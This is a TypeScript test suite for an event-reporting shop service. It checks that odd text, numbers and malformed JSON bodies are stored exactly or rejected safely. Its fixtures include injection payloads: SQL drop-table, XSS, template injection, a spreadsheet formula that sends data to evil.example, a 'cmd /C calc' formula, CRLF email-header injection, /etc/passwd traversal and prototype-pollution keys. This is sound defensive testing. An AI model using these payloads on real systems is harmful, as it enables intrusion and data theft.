import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { randomOf, SEED } from '#test/support/random.ts';
import { faultCodes, problemCode } from '#test/support/replies.ts';
import { type Reply, startService, type TestService } from '#test/support/service.ts';
import { MAX_OUTSIDE_BODY_BYTES } from '#platform/http/request-limits.ts';
import { openShop, type Shop } from '#test/support/shop.ts';
import { verify } from '#verify/verify.ts';

const TABLES = [
  'opportunities',
  'visits',
  'engagements',
  'transactions',
  'transaction_lines',
  'events',
  'jobs',
  'conversions',
  'obligations',
];

type Stored = {
  source: string;
  externalId: string;
  total: number;
  lines: { externalId: string | null; name: string; amount: number }[];
};

describe(`reports with arbitrary content (TEST_SEED=${SEED})`, () => {
  let service: TestService;
  let shop: Shop;
  let oid: string;
  before(async () => {
    service = await startService();
    shop = openShop(service);
    await shop.program({ autoApprove: true });
    await shop.collaborator('ada');
    oid = await shop.visit('ada');
  });
  after(async () => {
    await service.settled();
    assert.deepEqual((await verify(service.database)).breaches, []);
    await service.stop();
  });

  /** Sends a report. `body` is JSON text or a value to serialize as JSON. */
  const report = (operation: 'site-visited' | 'sale' | 'refund', body: unknown) =>
    service.request('POST', `/v1/event/${operation}`, { key: service.secretKey, body });

  async function counts(): Promise<unknown> {
    const columns = TABLES.map((table) => `(select count(*) from ${table}) as ${table}`).join(', ');
    return (await service.database.query(`select ${columns}`)).rows[0];
  }

  /**
   * Asserts that each reply of `work` is a problem with a 4xx status that reveals no internals. Also asserts that the
   * row counts of TABLES stay the same and that the service stays ready.
   */
  async function storesNothing(work: () => Promise<readonly Reply[]>): Promise<void> {
    await service.settled();
    const earlier = await counts();
    const replies = await work();
    for (const { status, headers, text } of replies) {
      assert.ok(status >= 400 && status < 500, `${status} ${text}`);
      assert.equal(headers.get('content-type'), 'application/problem+json');
      assert.doesNotMatch(text, /node_modules|\.ts\b|\bat \w+ \(|insert into|syntax error|pg_|FST_ERR/i);
    }
    assert.deepEqual(await counts(), earlier);
    assert.equal((await service.request('GET', '/readyz')).status, 200);
  }

  const stored = async (source: string, externalId: string): Promise<Stored | undefined> => {
    const query = new URLSearchParams({ source, externalId });
    return (await shop.get<Stored[]>(`/v1/transactions?${query.toString()}`))[0];
  };

  describe('text in reports', () => {
    const texts: Record<string, string> = {
      SQL: `'); drop table transactions; --`,
      'SQL with placeholders': `$1 ? :id %s \\'`,
      HTML: `<img src=x onerror="alert('1')"><script>alert(1)</script>`,
      'an HTML entity': '&lt;b&gt; &amp;amp; &#x27;',
      'a template': '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}',
      'a template that reaches a constructor': '{{constructor.constructor("return 1")()}}',
      'a formula': '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      'a formula that begins with a sign': `+cmd|' /C calc'!A0`,
      'a formula that begins with an at sign': '@SUM(1+1)*cmd',
      'right-to-left marks': 'gnp.\u202Eexe\u200F \u2067isolated\u2069 \u061C',
      'right-to-left text': 'הזמנה ۱۲۳ طلب',
      'zero-width characters': 'a\u200Bb\u200Dc\uFEFFd\u00AD',
      'combining characters': 'e\u0301 \u1100\u1161 Z\u0351\u036B\u0343',
      'composed characters': 'é 가 Å',
      'characters beyond 16 bits': '🧾 👩‍👩‍👧 𝒜 \u{10FFFF}',
      'noncharacters of Unicode': '\uFFFE\uFFFF\uE000',
      'line separators that are not control characters': 'a\u2028b\u2029c',
      'JSON in text': '{"a": "\\u0000", "b": [null]}',
      backslashes: String.raw`\\server\share \x41 A \N'`,
      'blanks at both ends': '  a  ',
      'blanks only': '\u00A0\u3000',
      'an email header': 'a%0d%0aBcc: eve@evil.example',
      'a path': '../../../../etc/passwd',
      'a prototype key': '__proto__',
      'the text null': 'null',
      'a number followed by letters': '1e3abc',
    };

    for (const [what, text] of Object.entries(texts)) {
      it(`text with ${what} is stored and read back unchanged`, async () => {
        const items = [{ name: text, externalId: text, amount: 1 }];
        const body = { source: text, externalId: text, total: 1, trackingId: oid, items };
        assert.equal((await report('sale', body)).status, 200);
        assert.equal((await report('sale', body)).status, 200, 'a repeat is recognized');
        const sale = await stored(text, text);
        assert.deepEqual(
          [sale?.source, sale?.externalId, sale?.lines.map(({ name, externalId }) => [name, externalId])],
          [text, text, [[text, text]]],
        );
        const never = await report('refund', { source: text, externalId: `${text}!` });
        const { source, externalId } = never.body as Record<string, unknown>;
        assert.deepEqual([never.status, source, externalId], [404, text, `${text}!`]);
        assert.equal((await report('refund', { source: text, externalId: text })).status, 200);
      });
    }

    it('sales whose sources look alike are separate sales', async () => {
      const alike = ['é', 'e\u0301', 'É', 'é ', 'é\u200B', '\u0435'];
      for (const source of alike) {
        await shop.sell('alike', oid, { source, total: 1 + alike.indexOf(source) });
      }
      for (const [index, source] of alike.entries()) {
        assert.equal((await stored(source, 'alike'))?.total, 100 * (1 + index), source);
      }
    });

    it('aliases with special characters are unknown until a collaborator has them', async () => {
      for (const text of [texts['SQL'], texts['a formula'], texts['right-to-left text'], '🧾'] as string[]) {
        await storesNothing(async () => [await report('site-visited', { collaboratorId: `tracking:${text}` })]);
        await shop.collaborator(text);
        assert.equal((await report('site-visited', { collaboratorId: `tracking:${text}` })).status, 200, text);
      }
    });

    it('text with NUL or an unpaired surrogate is rejected, and the error names its field', async () => {
      for (const bad of ['\\u0000', 'a\\u0000b', '\\ud800', '\\udc00', 'a\\ud83d', '\\udc00\\ud800']) {
        const json = `"${bad}"`;
        const sale = (source: string, externalId: string, item: string) =>
          `{"source":${source},"externalId":${externalId},"total":1,"trackingId":${oid},"items":[${item}]}`;
        await storesNothing(async () => {
          const whole = await report('sale', sale(json, json, `{"name":${json},"externalId":${json},"amount":1}`));
          assert.deepEqual(faultCodes(whole), {
            '/source': 'invalid-format',
            '/externalId': 'invalid-format',
            '/items/0/name': 'invalid-format',
            '/items/0/externalId': 'invalid-format',
          });
          const refund = await report('refund', `{"source":${json},"externalId":${json}}`);
          assert.deepEqual(faultCodes(refund), { '/source': 'invalid-format', '/externalId': 'invalid-format' });
          const visit = await report('site-visited', `{"collaboratorId":"tracking:${bad}","userId":${json}}`);
          assert.deepEqual(faultCodes(visit), { '/collaboratorId': 'invalid-format', '/userId': 'invalid-format' });
          const others = [
            await report(
              'sale',
              sale('"shop"', '"x"', '{"name":"Mug","amount":1}').replace('"total":1', `"total":${json}`),
            ),
            await report('sale', sale('"shop"', '"x"', `{"name":"Mug","amount":1,"type":${json}}`)),
            await report('sale', sale('"shop"', '"x"', `{"name":"Mug","amount":1,"quantity":${json}}`)),
            await report('sale', `{"currency":${json},${sale('"shop"', '"x"', '').slice(1)}`),
            await report('sale', sale('"shop"', '"x"', '').replace(oid, json)),
          ];
          for (const reply of others) assert.deepEqual([reply.status, problemCode(reply)], [422, 'invalid-request']);
          return [whole, refund, visit, ...others];
        });
      }
    });
  });

  describe('numbers in reports', () => {
    /**
     * Reports a sale for each decimal number, as a JSON number and as text. Asserts that its stored amounts are exact,
     * after rounding to cents.
     */
    async function areExact(literals: readonly string[]): Promise<void> {
      const source = `exact-${(batches += 1)}`;
      const sales = literals.flatMap((literal) => [literal, `"${literal}"`]);
      const replies = await Promise.all(
        sales.map((json, n) => {
          const signed = json.startsWith('"') ? `"-${json.slice(1)}` : `-${json}`;
          const items = `[{"name":"up","amount":${json}},{"name":"down","amount":${signed},"type":"discount"}]`;
          return report(
            'sale',
            `{"source":"${source}","externalId":${n},"total":${json},"trackingId":${oid},"items":${items}}`,
          );
        }),
      );
      const wrong = replies.flatMap(({ status, text }, n) => (status === 200 ? [] : [`${sales[n]}: ${text}`]));
      assert.deepEqual(wrong, []);
      const read = new Map<string, Stored>();
      for (let page = 1; read.size < sales.length; page += 1) {
        const found = await shop.get<Stored[]>(`/v1/transactions?source=${source}&perPage=100&page=${page}`);
        assert.ok(found.length > 0, 'every sale is listed');
        for (const sale of found) read.set(sale.externalId, sale);
      }
      for (const [n, json] of sales.entries()) {
        const expected = Number(cents(json.replaceAll('"', '')));
        const { total, lines } = read.get(String(n)) as Stored;
        // Compare the sum of price and discount with 0. A comparison with `-expected` would fail for -0 and 0.
        assert.deepEqual(
          [total, lines[0]?.amount, (lines[1]?.amount ?? NaN) + expected],
          [expected, expected, 0],
          json,
        );
      }
    }
    let batches = 0;

    it('numbers from a fixed list are rounded exactly to cents', () =>
      areExact(
        `19.99 4.35 1.15 64.10 8.2 0.29 1.005 2.675 1.255 10.235 0.57 1.1 4.35e1 4350E-2 0.0435e+3 1e2 0e5 0 0.0 0e-0
         1e-400 1e-3 4.9e-3 5e-3 0.004999999999999999 0.005 0.0149999 0.015 19.989999999999998 0.10000000000000001
         33.333333333333336 90071992547409.91 90071992547409.905 90071992547409.914 9007199254740991e-2
         45035996273704.97 4503599627370496.5e-2 1.000000000000000000000000000000000000000000000000000000000000`.split(
          /\s+/,
        ),
      ));

    it('random numbers are rounded exactly to cents', async () => {
      const random = randomOf(SEED);
      const digits = (most: number) =>
        Array.from({ length: 1 + Math.floor(random() * most) }, () => Math.floor(random() * 10)).join('');
      const literals = Array.from({ length: 100 }, () => {
        const whole = digits(9).replace(/^0+(?=\d)/, '');
        const fraction = random() < 0.9 ? `.${digits(random() < 0.5 ? 3 : 20)}` : '';
        const exponent = random() < 0.3 ? `e${Math.floor(random() * 8) - 4}` : '';
        return whole + fraction + exponent;
      });
      await areExact(literals);
    });

    it('numbers that a double would round to the same value stay distinct', async () => {
      const sell = (total: string, externalId: string) =>
        report('sale', `{"source":"close","externalId":"${externalId}","total":${total},"trackingId":${oid}}`);
      assert.equal((await sell('90071992547409.90', 'a')).status, 200);
      assert.equal((await sell('90071992547409.91', 'a')).status, 409);
      assert.equal((await sell('90071992547409.904', 'a')).status, 200);
      for (const [sold, other] of [
        ['9007199254740992', '9007199254740993'],
        ['9223372036854775807', '9223372036854775808'],
      ]) {
        await report('sale', `{"source":"close","externalId":${sold},"total":1,"trackingId":${oid}}`);
        assert.equal((await report('refund', `{"source":"close","externalId":${other}}`)).status, 404);
      }
    });

    it('numbers beyond the limits of their field are rejected, and nothing is stored', async () => {
      const huge = [
        '1e400',
        '-1e400',
        '1e999999999',
        `1${'0'.repeat(5_000)}`,
        '9'.repeat(5_000),
        '9223372036854775808',
      ];
      const tooLarge = ['9007199254740992', '9007199254740993', '18446744073709551616', ...huge];
      const replies: Reply[] = [];
      const faultyAt = async (pointer: string, reply: Promise<Reply>) => {
        const got = await reply;
        assert.equal(got.status, 422, `${pointer} ${got.text.slice(0, 200)}`);
        assert.deepEqual(Object.keys(faultCodes(got)), [pointer]);
        replies.push(got);
      };
      await storesNothing(async () => {
        for (const number of [...tooLarge, '-1', '0', '1.5', '1e-400', `0.${'1'.repeat(5_000)}`]) {
          const sale = (change: string) => report('sale', `{"source":"shop","externalId":"beyond",${change}}`);
          await faultyAt('/trackingId', sale(`"total":1,"trackingId":${number}`));
          const item = `"items":[{"name":"Mug","amount":1,"quantity":${number}}]`;
          await faultyAt('/items/0/quantity', sale(`"total":1,"trackingId":${oid},${item}`));
          await faultyAt('/collaboratorId', report('site-visited', `{"collaboratorId":${number}}`));
          if (number === '0') continue;
          await faultyAt('/userId', report('site-visited', `{"collaboratorId":"tracking:ada","userId":${number}}`));
        }
        for (const number of tooLarge) {
          const sale = (total: string, amount: string) =>
            `{"source":"shop","externalId":"beyond","total":${total},"trackingId":${oid},"items":[{"name":"Mug","amount":${amount}}]}`;
          await faultyAt('/total', report('sale', sale(number, '1')));
          await faultyAt('/items/0/amount', report('sale', sale('1', number)));
        }
        for (const number of ['1.5', '0.1e-3', '1e400', '1e-400', '9'.repeat(5_000)]) {
          const binding = `"source":"shop","externalId":${number}`;
          await faultyAt('/externalId', report('refund', `{${binding}}`));
          await faultyAt('/externalId', report('sale', `{${binding},"total":1,"trackingId":${oid}}`));
        }
        return replies;
      });
    });
  });

  describe('malformed bodies', () => {
    const roots = [
      '',
      ' ',
      'null',
      '1',
      '"sale"',
      'true',
      '[]',
      '[{}]',
      '{',
      '{}}',
      '{"a":1,}',
      '{"a":1 "b":2}',
      '\ufeff{}',
    ];
    const twice = ['{"source":"a","source":"b"}', '{"total":1,"t\\u006ftal":2}', '{"x":{"a":1,"a":1}}'];
    const deep = [`${'['.repeat(100_000)}${']'.repeat(100_000)}`, `{"x":${'{"x":'.repeat(50_000)}`];
    const inherited = [
      '{"__proto__":{"source":"a"}}',
      '{"constructor":{"prototype":{"source":"a"}}}',
      '{"toString":1}',
    ];
    const keys = (count: number) => `{${Array.from({ length: count }, (_, n) => `"an unknown key ${n}":${n}`).join()}}`;
    const many = keys(1_000);

    for (const operation of ['site-visited', 'sale', 'refund'] as const) {
      it(`are rejected by ${operation}, and nothing is stored`, () =>
        storesNothing(async () => {
          const fits = (body: string): boolean => operation !== 'site-visited' || body.length <= MAX_OUTSIDE_BODY_BYTES;
          const large = await Promise.all(
            [...roots, ...twice, ...deep, many].filter((body) => !fits(body)).map((body) => report(operation, body)),
          );
          assert.equal(large.length > 0, operation === 'site-visited');
          for (const reply of large) assert.equal(problemCode(reply), 'body-too-large');
          const broken = [...roots, ...twice, ...deep, keys(1_001)].filter(fits);
          const malformed = await Promise.all(broken.map((body) => report(operation, body)));
          assert.deepEqual(new Set(malformed.map(problemCode)), new Set(['malformed-json']));
          const wrong = [...inherited, many, '{}'].filter(fits);
          const empty = await Promise.all(wrong.map((body) => report(operation, body)));
          assert.deepEqual(new Set(empty.map(problemCode)), new Set(['invalid-request']));
          // Every required field must be reported as missing. Otherwise, a value was inherited from the prototype.
          for (const reply of empty) assert.deepEqual(faultCodes(reply), faultCodes(empty.at(-1) as Reply));
          assert.equal((Object.prototype as Record<string, unknown>)['source'], undefined);
          return [...large, ...malformed, ...empty];
        }));
    }

    it('bodies with the same value in every field are rejected, and nothing is stored', () =>
      storesNothing(async () => {
        const values: readonly unknown[] = [
          null,
          true,
          false,
          '',
          'x',
          [],
          {},
          [[]],
          [null],
          { $ne: null },
          { toString: 'x' },
          -1,
          0.5,
        ];
        const fields = ['source', 'externalId', 'total', 'trackingId', 'collaboratorId', 'userId', 'currency', 'items'];
        const bodies = values.map((value) => Object.fromEntries(fields.map((field) => [field, value])));
        const replies = await Promise.all(
          bodies.flatMap((body) => (['site-visited', 'sale'] as const).map((each) => report(each, body))),
        );
        assert.deepEqual(new Set(replies.map(({ status }) => status)), new Set([422]));
        return replies;
      }));
  });
});

/** Converts a decimal number to cents, and rounds halves away from zero. Shares no code with the service. */
function cents(literal: string): bigint {
  const [mantissa = '', exponent = '0'] = literal.toLowerCase().split('e');
  const [whole = '', fraction = ''] = mantissa.split('.');
  let numerator = BigInt(whole + fraction) * 100n;
  let denominator = 10n ** BigInt(fraction.length);
  if (exponent.startsWith('-')) denominator *= 10n ** BigInt(exponent.slice(1));
  else numerator *= 10n ** BigInt(exponent);
  // BigInt division truncates. For any fraction x, trunc(2x) - trunc(x) is x rounded with halves away from zero.
  return (numerator * 2n) / denominator - numerator / denominator;
}
